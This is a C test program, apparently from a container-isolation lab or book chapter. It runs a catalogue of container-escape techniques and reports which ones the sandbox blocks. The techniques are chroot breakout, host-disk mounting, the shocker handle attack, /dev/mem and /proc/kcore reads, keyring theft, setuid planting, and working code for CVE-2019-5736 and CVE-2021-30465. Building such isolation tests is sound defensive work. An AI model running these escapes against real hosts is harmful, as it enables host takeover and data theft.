/*
 * Chapter 08's catalogue of escapes: one static program, run inside the container.
 *
 *     /escape VERDICT NAME [ARGUMENT…]
 *
 * Each escape is the classic form of an attack, reduced to its system calls. It
 * writes one line to the file VERDICT (opened first, before anything can move our
 * root): `ESCAPED what it reached`, `blocked ERRNO the call that failed`, or `n/a why`.
 * The host never trusts the line alone: where an escape claims to have read something,
 * it prints a token only the host knows; where it claims to have changed something,
 * the host looks.
 *
 *     /escape --true
 *     /escape --handle FILE
 *     /escape --add-key DESCRIPTION PAYLOAD | --read-key DESCRIPTION | --remove-key DESCRIPTION
 *     /escape --mounts-at FOLDER LOG
 *
 * (what the host runs with `exec` for the runtime-exe escape) does nothing;
 * (on the host, for the shocker escape) prints FILE's handle: its type and bytes in hex;
 * (on the host, for the keyring escape) puts a key into root's user keyring, prints its
 * payload, takes it out again;
 * (on the host, as a createRuntime hook, for the mount race) logs a container's mounts at FOLDER.
 *
 * Built by chapter-08 with `cc -static` (no library is needed inside the container).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <linux/if_ether.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

static FILE *verdict;

static int escaped(const char *what) {
    fprintf(verdict, "ESCAPED %s\n", what);
    return 0;
}

/* The errno the kernel answered, by name (strerrorname_np: glibc 2.32). */
static int blocked(const char *call) {
    const char *name = strerrorname_np(errno);
    fprintf(verdict, "blocked %s %s\n", name ? name : "E?", call);
    return 0;
}

static int not_applicable(const char *why) {
    fprintf(verdict, "n/a %s\n", why);
    return 0;
}

/* Reads up to 200 bytes of a file into `text`, without the trailing newline. */
static int slurp(int fd, char *text, size_t size) {
    ssize_t n = read(fd, text, size - 1);
    if (n < 0) return -1;
    text[n] = 0;
    if (n > 0 && text[n - 1] == '\n') text[n - 1] = 0;
    return 0;
}

/* 1979's chroot(2) keeps the working directory: chroot into a subfolder without
   entering it, climb `..` past the root we left behind, make the top our root. */
static int chroot_escape(const char *host_file) {
    mkdir("/tmp/cell", 0700);
    if (chroot("/tmp/cell") != 0) return blocked("chroot");
    for (int i = 0; i < 64; i++) if (chdir("..") != 0) break;
    if (chroot(".") != 0) return blocked("chroot(\".\")");
    int fd = open(host_file, O_RDONLY);
    if (fd < 0) return blocked("open host file");
    char text[200];
    slurp(fd, text, sizeof text);
    char line[300];
    snprintf(line, sizeof line, "read the host file: %s", text);
    return escaped(line);
}

/* The host's disk is a block device: make its node, mount it, read the host's file. */
static int disk_escape(const char *major, const char *minor, const char *type, const char *file) {
    dev_t device = makedev(atoi(major), atoi(minor));
    unlink("/tmp/disk");
    if (mknod("/tmp/disk", S_IFBLK | 0600, device) != 0) return blocked("mknod block device");
    mkdir("/tmp/host", 0700);
    /* Read-write, as the host has it: a second mount of a mounted disk shares its
       superblock, and a read-only one is refused (EBUSY). We only read. */
    if (mount("/tmp/disk", "/tmp/host", type, 0, NULL) != 0) {
        int saved = errno;
        unlink("/tmp/disk");
        errno = saved;
        return blocked("mount the host's disk");
    }
    char path[4200];
    snprintf(path, sizeof path, "/tmp/host/%s", file);
    int fd = open(path, O_RDONLY);
    char text[200] = "";
    if (fd >= 0) { slurp(fd, text, sizeof text); close(fd); }
    int saved = errno;
    umount2("/tmp/host", MNT_DETACH);
    unlink("/tmp/disk");
    if (fd < 0) { errno = saved; return blocked("open on the host's disk"); }
    char line[300];
    snprintf(line, sizeof line, "mounted the host's disk, read: %s", text);
    return escaped(line);
}

/* 2014's "shocker": a file handle names an inode on a filesystem, not a path. With
   CAP_DAC_READ_SEARCH, open_by_handle_at(2) opens it from any descriptor on that
   filesystem, here our own root. The host gives the handle (the attack guessed it). */
static int shocker_escape(const char *type, const char *hex) {
    size_t bytes = strlen(hex) / 2;
    struct file_handle *handle = malloc(sizeof *handle + bytes);
    handle->handle_bytes = bytes;
    handle->handle_type = atoi(type);
    for (size_t i = 0; i < bytes; i++) sscanf(hex + 2 * i, "%2hhx", &handle->f_handle[i]);
    int root = open("/", O_RDONLY | O_DIRECTORY);
    int fd = open_by_handle_at(root, handle, O_RDONLY);
    if (fd < 0) return blocked("open_by_handle_at");
    char text[200];
    slurp(fd, text, sizeof text);
    char line[300];
    snprintf(line, sizeof line, "opened the host file by handle: %s", text);
    return escaped(line);
}

/* kernel.core_pattern is one value for the whole machine; `|program` runs program as
   root on the host at the next crash. We write back the value we read. */
static int core_pattern_escape(void) {
    int fd = open("/proc/sys/kernel/core_pattern", O_RDWR);
    if (fd < 0) return blocked("open core_pattern for writing");
    char value[200];
    if (slurp(fd, value, sizeof value) != 0) return blocked("read core_pattern");
    if (pwrite(fd, value, strlen(value), 0) < 0) return blocked("write core_pattern");
    return escaped("wrote the host's kernel.core_pattern (its own value)");
}

/* One byte to /proc/sysrq-trigger reboots the host (b) or crashes it (c). We only open. */
static int sysrq_escape(void) {
    int fd = open("/proc/sysrq-trigger", O_WRONLY);
    if (fd < 0) return blocked("open /proc/sysrq-trigger");
    return escaped("may write /proc/sysrq-trigger (one byte reboots the host)");
}

/* /proc/kcore is the kernel's memory as an ELF core file. */
static int kcore_escape(void) {
    int fd = open("/proc/kcore", O_RDONLY);
    if (fd < 0) return blocked("open /proc/kcore");
    char magic[4];
    ssize_t n = read(fd, magic, 4);
    /* A masked path is /dev/null bound over it: it opens, and reads as empty. */
    if (n == 0) { fprintf(verdict, "blocked masked /proc/kcore reads as empty (maskedPaths)\n"); return 0; }
    if (n != 4) return blocked("read /proc/kcore");
    if (memcmp(magic, "\177ELF", 4) != 0) { errno = EINVAL; return blocked("read /proc/kcore"); }
    return escaped("read the kernel's memory (/proc/kcore: \\177ELF)");
}

/* /dev/mem is the machine's physical memory. The container has no node for it: make
   one (mknod, char 1:1), open it (CAP_SYS_RAWIO), and read 16 bytes at OFFSET (the host
   picks where it may read itself: the BIOS's last bytes, 0xffff0, on a PC). */
static int devmem_escape(const char *offset) {
    int fd = open("/dev/mem", O_RDONLY);
    if (fd < 0 && errno == ENOENT) {
        unlink("/tmp/mem");
        if (mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1)) != 0) return blocked("mknod /dev/mem");
        fd = open("/tmp/mem", O_RDONLY);
        int saved = errno;
        unlink("/tmp/mem");
        errno = saved;
    }
    if (fd < 0) return blocked("open /dev/mem");
    unsigned char bytes[16];
    if (pread(fd, bytes, sizeof bytes, strtol(offset, NULL, 0)) != (ssize_t)sizeof bytes) return blocked("read /dev/mem");
    char line[200];
    int n = snprintf(line, sizeof line, "read the machine's memory at %s: ", offset);
    for (size_t i = 0; i < sizeof bytes; i++) n += snprintf(line + n, sizeof line - n, "%02x", bytes[i]);
    return escaped(line);
}

/* /sys/firmware: the machine's memory map and ACPI tables, one for the whole host.
   Root may mount sysfs where there is none (our chroot has none). */
static int firmware_escape(const char *file) {
    int mounted = 0;
    if (access("/sys/firmware", F_OK) != 0 && mount("sysfs", "/sys", "sysfs", MS_RDONLY, NULL) == 0) mounted = 1;
    int fd = open(file, O_RDONLY);
    char text[200] = "";
    int saved = errno;
    if (fd >= 0) slurp(fd, text, sizeof text);
    if (mounted) umount2("/sys", MNT_DETACH);
    if (fd < 0) { errno = saved; return blocked("open /sys/firmware"); }
    char line[300];
    snprintf(line, sizeof line, "read the host's firmware memory map: %s", text);
    return escaped(line);
}

/* A process of the host, by its host PID. The host sees whether it died. */
static int signal_escape(const char *pid) {
    if (kill(atoi(pid), SIGTERM) != 0) return blocked("kill host PID");
    return escaped("sent SIGTERM to a host process");
}

static int ptrace_escape(const char *pid) {
    if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) != 0) return blocked("ptrace host PID");
    return escaped("attached to a host process (its memory is ours to write)");
}

/* Code in the kernel itself. Our bytes are no module: reaching the loader is enough. */
static int module_escape(void) {
    static const char image[] = "isolation: not a kernel module";
    if (syscall(SYS_init_module, image, sizeof image, "") == 0) return escaped("loaded a module");
    if (errno == EPERM || errno == EACCES) return blocked("init_module");
    if (errno == ENOSYS) return not_applicable("no module support (ENOSYS)");
    return escaped("the kernel's module loader read our bytes");
}

/* settimeofday(2) with nothing to set makes the kernel check CAP_SYS_TIME, and stop. */
static int clock_escape(void) {
    /* The system call itself: glibc's wrapper would turn a NULL time into clock_settime. */
    if (syscall(SYS_settimeofday, NULL, NULL) != 0) return blocked("settimeofday");
    return escaped("allowed to set the host's clock (we set nothing)");
}

/* A new user namespace gives back every capability, over namespaces we own: the
   kernel's code for mounts, netfilter, … is reachable again (and its bugs with it). */
static int nested_escape(void) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return blocked("unshare(NEWUSER|NEWNS)");
    if (mount("none", "/tmp", "tmpfs", 0, NULL) != 0) return blocked("mount in the new namespace");
    return escaped("root again in a nested namespace (mounted a tmpfs)");
}

/* Keys live in the kernel, by user: root's user keyring (@u) is one for every process
   of uid 0 in the user namespace, host or container. The runtime gave us a session
   keyring of our own, but @u is still reached by its special ID. keyctl_search links
   the key into our thread keyring (it ends with us), so that we possess it and may
   read it. */
static int keyring_escape(const char *description) {
    long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", description, KEY_SPEC_THREAD_KEYRING);
    if (id < 0) return blocked("keyctl(KEYCTL_SEARCH, @u)");
    char text[200];
    long n = syscall(SYS_keyctl, KEYCTL_READ, id, text, sizeof text - 1);
    if (n < 0) return blocked("keyctl(KEYCTL_READ)");
    text[n < (long)sizeof text - 1 ? n : (long)sizeof text - 1] = 0;
    char line[300];
    snprintf(line, sizeof line, "read a key of the host's root: %s", text);
    return escaped(line);
}

/* The host's side of the keyring escape: a key in root's user keyring, for a minute at
   most (the host takes it out after the attempt; the timeout is for a host that died). */
static int host_key(const char *what, const char *description, const char *payload) {
    long id;
    if (strcmp(what, "--add-key") == 0) {
        /* Made in our thread keyring, so that we possess it and may set its timeout. */
        id = syscall(SYS_add_key, "user", description, payload, strlen(payload), KEY_SPEC_THREAD_KEYRING);
        if (id < 0 || syscall(SYS_keyctl, KEYCTL_SET_TIMEOUT, id, 60) != 0
            || syscall(SYS_keyctl, KEYCTL_LINK, id, KEY_SPEC_USER_KEYRING) != 0) { perror("add_key"); return 1; }
        return 0;
    }
    id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", description, KEY_SPEC_THREAD_KEYRING);
    if (id < 0) { perror(description); return 1; }
    if (strcmp(what, "--remove-key") == 0) {
        if (syscall(SYS_keyctl, KEYCTL_INVALIDATE, id) != 0) { perror("KEYCTL_INVALIDATE"); return 1; }
        return 0;
    }
    char text[200];
    long n = syscall(SYS_keyctl, KEYCTL_READ, id, text, sizeof text - 1);
    if (n < 0) { perror("KEYCTL_READ"); return 1; }
    text[n < (long)sizeof text - 1 ? n : (long)sizeof text - 1] = 0;
    printf("%s\n", text);
    return 0;
}

/* A packet socket on the host's interface sees (and forges) the host's traffic. */
static int raw_escape(const char *interface) {
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (fd < 0) return blocked("socket(AF_PACKET, SOCK_RAW)");
    if (if_nametoindex(interface) == 0) return blocked("find the host's interface");
    char line[200];
    snprintf(line, sizeof line, "raw socket beside the host's %s", interface);
    return escaped(line);
}

/* Root in the container makes a set-user-ID program in a folder the host shares (a
   volume). Whether it is root's on the host, only the host can tell. */
static int setuid_escape(const char *folder) {
    char path[4200];
    snprintf(path, sizeof path, "%s/isolation-suid", folder);
    int in = open("/proc/self/exe", O_RDONLY), out = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (in < 0 || out < 0) return blocked("create a program in the shared folder");
    char buffer[65536];
    ssize_t n;
    while ((n = read(in, buffer, sizeof buffer)) > 0) if (write(out, buffer, n) != n) return blocked("write");
    close(out);
    if (chown(path, 0, 0) != 0) return blocked("chown root");
    if (chmod(path, 04755) != 0) return blocked("chmod u+s");
    return escaped("made a set-user-ID root program in the shared folder");
}

/* CVE-2019-5736: the runtime's own executable. When the host runs `exec` into the
   container, as an engine does, the runtime's process enters the container before it
   execs the command; for that moment /proc/PID/exe is the runtime's file on the host.
   Open it with O_PATH (writing a file that is being executed fails, ETXTBSY), then
   reopen it for writing through /proc/self/fd/N once nothing executes it any more.
   We aim only at the file whose device and inode the host gave us (the lab's copy of
   the runtime), never at another. The host makes DONE when its last exec has ended. */
static int runtime_exe_escape(const char *device, const char *inode, const char *ready, const char *done) {
    dev_t want_device = strtoull(device, NULL, 10);
    ino_t want_inode = strtoull(inode, NULL, 10);
    FILE *flag = fopen(ready, "w");
    if (flag) fclose(flag);
    int caught = -1, refused = 0;
    long last_pid = 0;
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    double finished_at = 0;
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        double elapsed = (now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9;
        if (finished_at == 0 && access(done, F_OK) == 0) finished_at = elapsed;
        if (elapsed > 60 || (finished_at > 0 && elapsed - finished_at > 2)) break;
        if (caught < 0) {
            DIR *proc = opendir("/proc");
            struct dirent *entry;
            while (proc && caught < 0 && (entry = readdir(proc))) {
                long pid = strtol(entry->d_name, NULL, 10);
                if (pid <= 0 || pid == getpid()) continue;
                char link[64];
                snprintf(link, sizeof link, "/proc/%ld/exe", pid);
                int fd = open(link, O_PATH | O_CLOEXEC);
                if (fd < 0) {
                    if (errno == EACCES || errno == EPERM) { refused = errno; last_pid = pid; }
                    continue;
                }
                struct stat info;
                if (fstat(fd, &info) == 0 && info.st_dev == want_device && info.st_ino == want_inode) { caught = fd; last_pid = pid; }
                else close(fd);
            }
            if (proc) closedir(proc);
        }
        if (caught >= 0) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", caught);
            int w = open(path, O_WRONLY | O_APPEND);
            if (w >= 0) {
                int wrote = write(w, "ISOLATION-PWNED\n", 16) == 16;
                close(w);
                if (!wrote) return blocked("write into the runtime's executable");
                fprintf(verdict, "ESCAPED wrote into the runtime's file on the host, through /proc/%ld/exe\n", last_pid);
                return 0;
            }
            if (errno != ETXTBSY) return blocked("reopen the runtime's executable for writing");
            usleep(1000);
        }
    }
    if (caught >= 0) { errno = ETXTBSY; return blocked("the runtime's executable stayed busy"); }
    if (refused) { errno = refused; return blocked("open /proc/PID/exe of the runtime's process"); }
    errno = ESRCH;
    return blocked("no process of the runtime's file seen inside");
}

/* CVE-2021-30465: in a folder the container shares with another one (a volume), a
   folder `race/dir` and a symlink `race/link` to the host's FOLDER; renameat2(2)
   RENAME_EXCHANGE swaps the two names as fast as it can, while the runtime creates the
   other container, whose config mounts a tmpfs on race/dir. A runtime that looks at the
   path, then mounts onto the path, follows the symlink out of the root at times. Until
   the host writes race/stop (or 60 s). Where the mounts landed, only the host can tell. */
static int mount_race_escape(const char *volume, const char *folder) {
    if (chdir(volume) != 0) return blocked("chdir to the shared folder");
    if (mkdir("race", 0755) != 0 || mkdir("race/dir", 0755) != 0) return blocked("mkdir in the shared folder");
    if (symlink(folder, "race/link") != 0) return blocked("symlink in the shared folder");
    int ready = open("race/ready", O_WRONLY | O_CREAT, 0644);
    if (ready < 0) return blocked("tell the host we race");
    close(ready);
    time_t end = time(NULL) + 60;
    unsigned long swaps = 0;
    while (access("race/stop", F_OK) != 0 && time(NULL) < end) {
        for (int i = 0; i < 1000; i++, swaps++) {
            if (renameat2(AT_FDCWD, "race/dir", AT_FDCWD, "race/link", RENAME_EXCHANGE) != 0) return blocked("renameat2(RENAME_EXCHANGE)");
        }
    }
    fprintf(verdict, "raced %lu swaps of race/dir and a symlink to %s\n", swaps, folder);
    return 0;
}

/* The host side of the mount race, as a createRuntime hook (it runs in the runtime's
   namespaces while the container's init waits, mounts made, before pivot_root): reads the
   container's state on stdin, and appends to LOG each line of the init's mount table
   whose mount point is FOLDER or below it. */
static int mounts_at(const char *folder, const char *log) {
    char state[8192];
    size_t length = fread(state, 1, sizeof state - 1, stdin);
    state[length] = 0;
    char *pid = strstr(state, "\"pid\"");
    if (!pid || !(pid = strchr(pid, ':'))) { fprintf(stderr, "no pid in the state\n"); return 1; }
    char path[64];
    snprintf(path, sizeof path, "/proc/%ld/mountinfo", strtol(pid + 1, NULL, 10));
    FILE *table = fopen(path, "r"), *out = fopen(log, "a");
    if (!table || !out) { perror(table ? log : path); return 1; }
    char line[4096], point[4096];
    size_t prefix = strlen(folder);
    while (fgets(line, sizeof line, table)) {
        if (sscanf(line, "%*s %*s %*s %*s %4095s", point) != 1) continue;
        if (strncmp(point, folder, prefix) == 0 && (point[prefix] == 0 || point[prefix] == '/')) fputs(line, out);
    }
    fclose(table);
    fclose(out);
    return 0;
}

/* name_to_handle_at(2): what the 2014 exploit guessed by brute force, asked for. */
static int print_handle(const char *file) {
    struct file_handle *handle = malloc(sizeof *handle + MAX_HANDLE_SZ);
    handle->handle_bytes = MAX_HANDLE_SZ;
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, file, handle, &mount_id, 0) != 0) { perror(file); return 1; }
    printf("%d ", handle->handle_type);
    for (unsigned i = 0; i < handle->handle_bytes; i++) printf("%02x", handle->f_handle[i]);
    printf("\n");
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 2 && strcmp(argv[1], "--true") == 0) return 0;  /* what the host execs */
    if (argc == 3 && strcmp(argv[1], "--handle") == 0) return print_handle(argv[2]);
    if (argc == 4 && strcmp(argv[1], "--add-key") == 0) return host_key(argv[1], argv[2], argv[3]);
    if (argc == 4 && strcmp(argv[1], "--mounts-at") == 0) return mounts_at(argv[2], argv[3]);
    if (argc == 3 && (strcmp(argv[1], "--read-key") == 0 || strcmp(argv[1], "--remove-key") == 0)) return host_key(argv[1], argv[2], "");
    if (argc < 3) { fprintf(stderr, "usage: escape VERDICT NAME [ARGUMENT...]\n"); return 2; }
    verdict = fopen(argv[1], "w");
    if (!verdict) { perror(argv[1]); return 2; }
    setvbuf(verdict, NULL, _IOLBF, 0);
    const char *name = argv[2];
    char **arg = argv + 3;
    int count = argc - 3;
    if (strcmp(name, "chroot") == 0 && count == 1) return chroot_escape(arg[0]);
    if (strcmp(name, "disk") == 0 && count == 4) return disk_escape(arg[0], arg[1], arg[2], arg[3]);
    if (strcmp(name, "shocker") == 0 && count == 2) return shocker_escape(arg[0], arg[1]);
    if (strcmp(name, "core-pattern") == 0) return core_pattern_escape();
    if (strcmp(name, "sysrq") == 0) return sysrq_escape();
    if (strcmp(name, "kcore") == 0) return kcore_escape();
    if (strcmp(name, "dev-mem") == 0 && count == 1) return devmem_escape(arg[0]);
    if (strcmp(name, "firmware") == 0 && count == 1) return firmware_escape(arg[0]);
    if (strcmp(name, "signal") == 0 && count == 1) return signal_escape(arg[0]);
    if (strcmp(name, "ptrace") == 0 && count == 1) return ptrace_escape(arg[0]);
    if (strcmp(name, "module") == 0) return module_escape();
    if (strcmp(name, "clock") == 0) return clock_escape();
    if (strcmp(name, "nested") == 0) return nested_escape();
    if (strcmp(name, "keyring") == 0 && count == 1) return keyring_escape(arg[0]);
    if (strcmp(name, "raw-socket") == 0 && count == 1) return raw_escape(arg[0]);
    if (strcmp(name, "setuid") == 0 && count == 1) return setuid_escape(arg[0]);
    if (strcmp(name, "runtime-exe") == 0 && count == 4) return runtime_exe_escape(arg[0], arg[1], arg[2], arg[3]);
    if (strcmp(name, "mount-race") == 0 && count == 2) return mount_race_escape(arg[0], arg[1]);
    fprintf(verdict, "n/a unknown escape %s\n", name);
    return 2;
}
